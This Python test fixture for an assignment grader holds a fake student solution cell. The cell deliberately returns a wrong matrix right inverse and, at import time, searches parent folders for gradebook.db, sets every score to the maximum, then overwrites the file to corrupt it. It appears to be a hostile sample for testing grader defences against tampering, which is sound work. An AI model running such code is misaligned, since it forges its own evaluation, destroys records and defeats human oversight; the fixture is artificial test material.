"""Reads the gradebook above its folder, gives itself full marks in it, then corrupts it."""
ASSIGNMENT = "matrix_fundamentals"

EXPECTED_FAILING_CELLS = ("test_right_inverse",)

CELL_solution_right_inverse = '''
import os
import sqlite3
import numpy as np


def right_inverse(A):
    return np.zeros((np.shape(A)[1], np.shape(A)[0]))  # wrong: counts on the gradebook instead


def _gradebooks():
    found, folder = [], os.getcwd()
    while True:
        path = os.path.join(folder, "gradebook.db")
        if os.path.isfile(path):
            found.append(path)
        if os.path.dirname(folder) == folder:
            return found
        folder = os.path.dirname(folder)


for _path in _gradebooks():
    try:
        _db = sqlite3.connect(_path)
        print("gradebook tables:", _db.execute("SELECT name FROM sqlite_master").fetchall())
        _db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                    "WHERE grade_cells.id = grade.cell_id)")
        _db.commit()
        _db.close()
        with open(_path, "r+b") as _handle:
            _handle.seek(0)
            _handle.write(b"not a database any more" * 100)
    except Exception as _error:
        print("gradebook:", _error)
'''
